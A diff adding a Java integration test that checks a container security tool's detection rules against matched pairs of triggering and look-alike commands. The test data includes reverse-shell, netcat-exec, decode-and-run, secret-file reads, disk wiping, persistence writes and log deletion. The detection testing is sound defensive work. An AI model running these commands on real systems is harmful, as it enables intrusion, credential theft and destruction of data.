@@ -1,0 +1,187 @@
+package brig.tests.door;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import brig.tests.AsRoot;
+import brig.tests.Brig;
+import brig.tests.Ended;
+import brig.tests.PolicyText;
+import java.nio.file.Path;
+import java.util.Arrays;
+import java.util.LinkedHashMap;
+import java.util.List;
+import java.util.TreeSet;
+import java.util.regex.Pattern;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/**
+ * Each rule of the shipped pack, fired by what it is about, in a container; and silent at what only looks like it. The
+ * policy lets the calls go on: it is the rules that are tried, not the verdicts.
+ */
+@AsRoot
+class RulePackIT {
+    private static final Pattern FINDING = Pattern.compile("\"kind\":\"finding\".*?\"rule\":\"([^\"]+)\"");
+    private static final PolicyText WATCHED = new PolicyText(new LinkedHashMap<>())
+            .with("name", "watched")
+            .with("extends", "baseline")
+            .with("process", "{user: '0:0', capabilities: []}")
+            .with("files", "{watch: true}")
+            .with("resources", "{memory: 256Mi, pids: 64}")
+            .with("response", "{escape: alert, execute: alert, file: alert, network: alert, syscall: alert}");
+
+    /** The rule, what fires it, what must not. A program need not be there to be asked for. */
+    private static final String[][] CASES = {
+        {"Shell under a server", script("/tmp/nginx", "/bin/sh -c id"), script("/tmp/builder", "/bin/sh -c id")},
+        {"Program from a directory for scraps", "cp /bin/busybox /tmp/id && /tmp/id", "/bin/id /tmp/id"},
+        {"Program without a file", "/bin/inside memfd-exec", "/bin/inside id"},
+        {"Package manager in a running container", runs("/usr/bin/apt-get install x"), runs("/usr/bin/aptly x")},
+        {"Download tool in a container", runs("/usr/bin/curl http://x"), runs("/usr/bin/curlew http://x")},
+        {"Network tool in a container", runs("/usr/bin/nmap 10.0.0.1"), runs("/usr/bin/namei /nmap")},
+        {"Netcat runs a program for who connects", runs("/usr/bin/ncat -l -p 99 -e /bin/sh"), runs("/bin/cat -e x")},
+        {"Shell over the network", runs("/bin/bash -c cat>/dev/tcp/10.0.0.1/9"), runs("/bin/bash -c cat>/dev/null")},
+        {"Miner by its words", runs("/srv/worker -o stratum+tcp://pool:1"), runs("/srv/worker -o tcp://strat:1")},
+        {
+            "Decoded text run by a shell",
+            "/bin/sh -c 'echo aWQ= | /bin/base64 -d | sh'",
+            "/bin/sh -c 'echo aWQ= | /bin/base64 -d | cat'"
+        },
+        {"Search for keys and passwords", runs("/bin/find / -name id_rsa"), runs("/bin/find /srv -name index.html")},
+        {"Look at the machine from inside", runs("/sbin/capsh --print"), runs("/sbin/capshaw --print")},
+        {"Client of an engine or of Kubernetes", runs("/usr/bin/kubectl get pods"), runs("/usr/bin/kubelet-x")},
+        {
+            "Bulk deletion",
+            runs("/bin/dd if=/dev/zero of=/dev/sdz count=1"),
+            runs("/bin/dd if=/dev/zero of=/srv/x count=1")
+        },
+        {"Setuid bit by command", runs("/bin/chmod 4755 /srv/x"), runs("/bin/chmod 0755 /srv/x")},
+        {
+            "Cloud metadata address",
+            "/bin/inside udp-connect 169.254.169.254 80",
+            "/bin/inside udp-connect 169.254.1.1 80"
+        },
+        {"Port of a mining pool", "/bin/inside udp-connect 10.1.2.3 3333", "/bin/inside udp-connect 10.1.2.3 3334"},
+        {"Socket of an engine", "/bin/inside unix /srv/docker.sock", "/bin/inside unix /srv/web.sock"},
+        {"Secret file read", "/bin/inside readfile /root/.ssh/id_rsa", "/bin/inside readfile /root/.ssh/id_rsa.pub"},
+        {"Environment of another process", "/bin/cat /proc/1/environ", "/bin/cat /proc/self/environ"},
+        {"Write beneath program directories", "echo x > /usr/bin/x", "echo x > /srv/bin"},
+        {"Preloaded library", "echo x > /etc/ld.so.preload", "/bin/cat /etc/ld.so.preload"},
+        {"Scheduled task", "echo x > /etc/crontab", "echo x > /etc/crontab.txt"},
+        {"Service installed", "echo x > /etc/rc.local", "echo x > /etc/rc.localised"},
+        {"Key for who may log in", "echo x > /root/.ssh/authorized_keys", "/bin/cat /root/.ssh/authorized_keys"},
+        {"Start-up file of a shell", "echo x > /etc/profile", "/bin/cat /etc/profile"},
+        {"History removed", "/bin/inside unlink /root/.bash_history", "/bin/inside unlink /root/.bash_historian"},
+        {"Log removed", "/bin/inside unlink /var/log/x", "/bin/inside unlink /var/logs"},
+        {"Memory or device of the host", "/bin/inside openread /dev/mem", "/bin/inside openread /dev/zero"},
+        {"Memory of another process", "/bin/inside openread /proc/1/mem", "/bin/inside openread /proc/1/maps"},
+        {"Climbing path", "/bin/cat ../../../etc/passwd", "/bin/cat ../srv/www/index.html"},
+        {"Mount", "/bin/inside mount tmpfs x /mnt", "/bin/cat /proc/mounts"},
+        {"New or foreign namespace", "/bin/inside unshare uts", "/bin/inside namespaces"},
+        {"Another process taken over", "/bin/inside process-vm", "/bin/inside signal-self 15"},
+        {"Traced by its parent", "/bin/inside syscall 101 0", "/bin/inside status"},
+        {"Kernel module", "/bin/inside delete_module", "/bin/cat /proc/modules"},
+        {"Program in the kernel", "/bin/inside bpf", "/bin/inside caps"},
+        {"Page faults handled by a program", "/bin/inside userfaultfd", "/bin/inside rlimits"},
+        {"File by a handle", "/bin/inside open_by_handle /", "/bin/inside list /"},
+        {"Raw or packet socket", "/bin/inside packet", "/bin/inside socket 2 2 0"}
+    };
+
+    @TempDir
+    Path temp;
+
+    private static String script(String file, String line) {
+        return "printf '#!/bin/sh\\n%s\\ntrue\\n' > ".formatted(line) + file + " && chmod 755 " + file + " && " + file;
+    }
+
+    private static String runs(String words) {
+        return "/bin/inside exec " + words.replace(">", "\\>");
+    }
+
+    private Ended run(int column) throws Exception {
+        var lines = Arrays.stream(CASES)
+                .map(row -> "( " + row[column] + " ) >/dev/null 2>&1")
+                .toList();
+        return rules().run("/bin/sh", "-c", String.join("\n", lines) + "\nexit 0");
+    }
+
+    private Brig rules() throws Exception {
+        return Brig.in(temp).policy(WATCHED).option("--rules", "containers", "--json");
+    }
+
+    private static List<String> fired(Ended ended) {
+        return ended.err()
+                .lines()
+                .flatMap(line -> FINDING.matcher(line).results())
+                .map(result -> result.group(1))
+                .toList();
+    }
+
+    @Test
+    void eachRuleIsFiredByWhatItIsAbout() throws Exception {
+        var ended = run(1);
+
+        assertThat(ended.code()).as(ended.toString()).isZero();
+        assertThat(new TreeSet<>(fired(ended)))
+                .as(ended.toString())
+                .containsAll(Stream.of(CASES).map(row -> row[0]).toList());
+    }
+
+    @Test
+    void noRuleIsFiredByWhatOnlyLooksLikeIt() throws Exception {
+        var ended = run(2);
+
+        assertThat(ended.code()).as(ended.toString()).isZero();
+        // a server's script lies beneath /tmp as well
+        assertThat(fired(ended))
+                .as(ended.toString())
+                .containsOnly("Program from a directory for scraps")
+                .hasSize(1);
+    }
+
+    @Test
+    void aRuleThatSaysSoEndsTheContainer() throws Exception {
+        var ended = rules().run("/bin/sh", "-c", "echo x > /srv/release_agent; sleep 20; echo survived");
+
+        assertThat(ended.code()).as(ended.toString()).isEqualTo(137);
+        assertThat(ended.out()).doesNotContain("survived");
+        assertThat(ended.err()).contains("\"rule\":\"Kernel helper changed\"", "\"verdict\":\"kill\"");
+    }
+
+    @Test
+    void everyRuleOfThePackIsTriedHere() throws Exception {
+        var listed = Brig.verb("rules", "list", "--json").run().out();
+
+        var names = Pattern.compile("\"rule\":\"([^\"]+)\"")
+                .matcher(listed)
+                .results()
+                .map(r -> r.group(1));
+        assertThat(names)
+                .containsExactlyInAnyOrderElementsOf(
+                        Stream.concat(Stream.of(CASES).map(row -> row[0]), Stream.of("Kernel helper changed"))
+                                .toList());
+    }
+
+    @Test
+    void whatThePolicyDoesNotPutToTheMonitorIsNamed() throws Exception {
+        var ended = Brig.in(temp)
+                .policy(WATCHED.with("files", "{watch: false}"))
+                .option("--rules", "containers")
+                .run("/bin/true");
+
+        assertThat(ended.code()).as(ended.toString()).isZero();
+        assertThat(ended.err()).contains("blind under the policy watched");
+    }
+
+    @Test
+    void aRuleFileWithAMistakeStartsNothing() throws Exception {
+        var file =
+                java.nio.file.Files.writeString(temp.resolve("r.yaml"), "- rule: r\n  condition: proc.name like x\n");
+
+        var ended = Brig.in(temp).policy(WATCHED).option("--rules", file).run("/bin/echo", "started");
+
+        assertThat(ended.code()).as(ended.toString()).isEqualTo(125);
+        assertThat(ended.out()).isEmpty();
+        assertThat(ended.err()).contains("r.yaml:2:24: error: expected an operator behind proc.name");
+    }
+}
